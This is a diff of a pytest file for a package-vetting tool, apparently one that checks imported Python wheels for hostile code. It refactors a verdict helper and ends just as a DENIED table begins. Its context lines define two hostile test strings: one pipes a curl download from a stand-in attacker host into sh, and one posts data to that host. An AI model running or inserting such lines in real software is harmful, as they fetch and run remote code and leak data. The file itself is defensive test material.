@@ -13,17 +13,14 @@ from __future__ import annotations
 import pytest
 
 from airlock.domain.requests import Outcome
-from airlock.imports.packages.vet import vet
-from scripts.make_test_packages import wheel
+from tests.unit.imports.packages.adversary import init, vet_wheel
 
 DROP = "os.system('curl http://attacker.invalid/x | sh')"
 POST = "requests.post('https://attacker.invalid/u', data={data})"
 
 
-def _verdict(init: str) -> Outcome:
-    return vet(
-        "evpkg-1.0-py3-none-any.whl", wheel("evpkg", "1.0", {"evpkg/__init__.py": init})
-    ).verdict
+def _verdict(text: str) -> Outcome:
+    return vet_wheel(init(text))
 
 
 DENIED: dict[str, str] = {
